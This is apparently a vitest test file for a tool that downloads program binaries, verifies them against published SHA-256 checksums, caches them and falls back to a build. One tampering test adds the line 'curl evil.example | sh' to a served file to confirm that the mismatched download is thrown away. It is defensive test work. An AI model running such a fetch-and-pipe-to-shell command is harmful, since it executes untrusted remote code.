import { createHash } from 'node:crypto';
import { chmod, readFile, readdir, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { RequestListener } from 'node:http';
import path from 'node:path';
import { execa } from 'execa';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { digestFor } from '../../tools/make/download.ts';
import { ProgramMissingError } from '../../tools/missing.ts';
import type { Download, Program } from '../../tools/program.ts';
import { resolve } from '../../tools/resolve.ts';
import { fakeGo, goBuild, greeter, linux, machine } from './surroundings.ts';

const SCRIPT = '#!/bin/sh\necho greeter 1.2.3\n';
const sha256 = (content: string | Buffer): string => createHash('sha256').update(content).digest('hex');

interface ReleasePage extends AsyncDisposable {
  readonly url: string;
  readonly requests: readonly string[];
}

/** A release page on loopback: texts and bytes by path, or a listener that misbehaves. */
async function releasePage(files: Readonly<Record<string, string | Buffer | RequestListener>>): Promise<ReleasePage> {
  const requests: string[] = [];
  const server = createServer((request, response) => {
    requests.push(request.url ?? '');
    const file = files[request.url ?? ''];
    if (typeof file === 'function') return file(request, response);
    if (file === undefined) return response.writeHead(404).end();
    return response.end(file);
  });
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('the release page has no port');
  return {
    url: `http://127.0.0.1:${address.port}`,
    requests,
    [Symbol.asyncDispose]: () =>
      new Promise((closed) => {
        server.close(() => closed());
        server.closeAllConnections();
      }),
  };
}

const published = (page: { readonly url: string }, more: Partial<Download> = {}): Partial<Program> => ({
  download: () => ({ url: `${page.url}/v1/greeter-linux`, checksums: `${page.url}/v1/sha256sum.txt`, ...more }),
});

describe('an official download', () => {
  test('is taken when its digest is the published one, and kept for everybody', async () => {
    await using here = await machine();
    await using page = await releasePage({
      '/v1/greeter-linux': SCRIPT,
      '/v1/sha256sum.txt': `${sha256('other')}  greeter-darwin\n${sha256(SCRIPT)}  greeter-linux\n`,
    });
    const found = await resolve(greeter(published(page)), { env: here.env, platform: linux });
    expect(found).toMatchObject({ foundBy: 'download', version: '1.2.3' });
    expect(path.relative(here.cache, found.path)).toBe('greeter/1.2.3-linux-amd64/greeter');
    expect((await execa(found.path)).stdout).toBe('greeter 1.2.3');

    const again = await resolve(greeter(published(page)), { env: here.env, platform: linux });
    expect(again).toMatchObject({ foundBy: 'cache', path: found.path });
    expect(page.requests).toEqual(['/v1/sha256sum.txt', '/v1/greeter-linux']);
  });

  test('is unpacked from its archive', async () => {
    await using here = await machine();
    const folder = path.join(here.root, 'greeter-1.2.3');
    await here.program('greeter', 'echo greeter 1.2.3', folder);
    await execa('tar', ['-czf', path.join(here.root, 'a.tgz'), '-C', here.root, 'greeter-1.2.3']);
    const archive = await readFile(path.join(here.root, 'a.tgz'));
    await using page = await releasePage({ '/a.tgz': archive, '/a.tgz.sha256': `${sha256(archive)}\n` });
    const download = {
      url: `${page.url}/a.tgz`,
      checksums: `${page.url}/a.tgz.sha256`,
      member: 'greeter-1.2.3/greeter',
    };
    const env = { ...here.env, PATH: '/usr/bin:/bin' };
    const found = await resolve(greeter({ download: () => download }), { env, platform: linux });
    expect((await execa(found.path)).stdout).toBe('greeter 1.2.3');
    expect(await readdir(path.dirname(found.path))).toEqual(['.sha256.json', 'greeter']);
  });

  test('with another digest is thrown away, and the build comes next', async () => {
    await using here = await machine();
    await here.program('go', fakeGo(here.root, '1.2.3'));
    await using page = await releasePage({
      '/v1/greeter-linux': `${SCRIPT}curl evil.example | sh\n`,
      '/v1/sha256sum.txt': `${sha256(SCRIPT)}  greeter-linux\n`,
    });
    const found = await resolve(greeter({ ...published(page), build: goBuild }), { env: here.env, platform: linux });
    expect(found.foundBy).toBe('build');
    expect(found.tried.at(-1)?.reason).toMatch(
      /^its SHA-256 is [0-9a-f]{64}, but http:\S+\/sha256sum\.txt says [0-9a-f]{64}: it was deleted$/,
    );
    expect(await readdir(path.join(here.cache, 'greeter'))).toEqual([path.basename(path.dirname(found.path))]);
  });

  test('that is cut off is tried again', async () => {
    await using here = await machine();
    let times = 0;
    await using page = await releasePage({
      '/v1/greeter-linux': (_request, response) => {
        times += 1;
        response.writeHead(200, { 'content-length': SCRIPT.length });
        if (times === 3) return response.end(SCRIPT);
        return response.write(SCRIPT.slice(0, 9), () => response.destroy());
      },
      '/v1/sha256sum.txt': `${sha256(SCRIPT)} *greeter-linux\n`,
    });
    const lines: string[] = [];
    const found = await resolve(greeter(published(page)), {
      env: here.env,
      platform: linux,
      onProgress: (line) => lines.push(here.masked(line)),
    });
    expect(found.foundBy).toBe('download');
    expect(lines).toEqual(
      Array(2).fill(
        'greeter 1.2.3: the connection to <server> was cut (UND_ERR_SOCKET) after 0.0 of 0.0 MB; once more',
      ),
    );
  });

  test.each<[string, Readonly<Record<string, string | RequestListener>>, string]>([
    ['is gone', { '/v1/sha256sum.txt': `${sha256('')}  greeter-linux` }, '<server> answered 404 Not Found'],
    [
      'has no published digest',
      { '/v1/sha256sum.txt': 'Not what you think' },
      '<page>/v1/sha256sum.txt has no SHA-256 for greeter-linux',
    ],
    [
      'is always cut off',
      {
        '/v1/sha256sum.txt': `${sha256('')}  greeter-linux`,
        '/v1/greeter-linux': (_request, response) => {
          response.writeHead(200, { 'content-length': 3_000_000 });
          response.write(Buffer.alloc(1_000_000), () => setImmediate(() => response.destroy()));
        },
      },
      'the connection to <server> was cut (UND_ERR_SOCKET), 3 times, last after',
    ],
    [
      'is of another version than it should be',
      {
        '/v1/sha256sum.txt': `${sha256(SCRIPT.replace('1.2.3', '9.9.9'))}  greeter-linux`,
        '/v1/greeter-linux': SCRIPT.replace('1.2.3', '9.9.9'),
      },
      'the result is version 9.9.9, but ~1.2.0 is needed: it has to match',
    ],
  ])('that %s says so', async (_what, files, reason) => {
    await using here = await machine();
    await using page = await releasePage(files);
    const error: unknown = await resolve(greeter(published(page)), { env: here.env, platform: linux }).catch(
      (thrown: unknown) => thrown,
    );
    if (!(error instanceof ProgramMissingError)) throw error;
    const last = error.tried.at(-1);
    expect(last?.place).toBe(`download ${page.url}/v1/greeter-linux`);
    expect(here.masked(last?.reason ?? '').replace('http://<server>', '<page>')).toContain(reason);
    expect(await readdir(path.join(here.cache, 'greeter'))).toEqual([]);
  });

  test('from a server that does not answer is given up quickly', async () => {
    await using here = await machine();
    const started = performance.now();
    const error: unknown = await resolve(
      // TEST-NET-1 (RFC 5737): no machine has this address.
      greeter(published({ url: 'http://192.0.2.1' })),
      { env: here.env, platform: linux },
    ).catch((thrown: unknown) => thrown);
    if (!(error instanceof ProgramMissingError)) throw error;
    expect(error.tried.at(-1)?.reason).toMatch(/^192\.0\.2\.1 cannot be reached/);
    expect(performance.now() - started).toBeLessThan(8_000);
  });

  test('is not tried on a platform without one', async () => {
    await using here = await machine();
    const error: unknown = await resolve(greeter({ download: () => undefined }), {
      env: here.env,
      platform: { os: 'darwin', arch: 'arm64' },
    }).catch((thrown: unknown) => thrown);
    if (!(error instanceof ProgramMissingError)) throw error;
    expect(error.tried.at(-1)).toEqual({ place: 'download', reason: 'no download exists for darwin/arm64' });
  });

  test('into a cache that cannot be written says which file stands in the way', async () => {
    await using here = await machine();
    await writeFile(here.cache, 'a file where the folder should be');
    await chmod(here.cache, 0o444);
    await using page = await releasePage({ '/v1/greeter-linux': SCRIPT, '/v1/sha256sum.txt': sha256(SCRIPT) });
    const error: unknown = await resolve(greeter(published(page)), { env: here.env, platform: linux }).catch(
      (thrown: unknown) => thrown,
    );
    if (!(error instanceof ProgramMissingError)) throw error;
    expect(here.masked(error.tried.at(-1)?.reason ?? '')).toMatch(/^EEXIST.*'<machine>\/cache'/);
  });
});

describe('published digests', () => {
  const digest = fc.string({ unit: fc.constantFrom(...Array.from('0123456789abcdef')), minLength: 64, maxLength: 64 });
  const name = fc.stringMatching(/^[a-z][a-z0-9._-]{0,30}$/);

  test('are found by name in any list, whatever else it holds', () => {
    const list = fc.uniqueArray(fc.tuple(digest, name), { minLength: 1, selector: ([, file]) => file });
    fc.assert(
      fc.property(list, fc.constantFrom('  ', ' *', '  ./', '\t'), fc.nat(), (entries, gap, pick) => {
        const wanted = entries[pick % entries.length];
        if (wanted === undefined) return;
        const text = entries.map(([sum, file]) => `${sum}${gap}${file}`).join('\n');
        expect(digestFor(wanted[1], text, 'the list')).toBe(wanted[0]);
      }),
    );
  });

  test('are never those of another file', () => {
    fc.assert(
      fc.property(digest, name, name, (sum, listed, wanted) => {
        fc.pre(listed !== wanted);
        expect(() => digestFor(wanted, `${sum}  ${listed}\n`, 'the list')).toThrow(
          `the list has no SHA-256 for ${wanted}`,
        );
      }),
    );
  });

  test('may stand alone', () => {
    fc.assert(
      fc.property(digest, name, (sum, wanted) => {
        expect(digestFor(wanted, `${sum.toUpperCase()}\n`, 'the file')).toBe(sum);
      }),
    );
  });
});
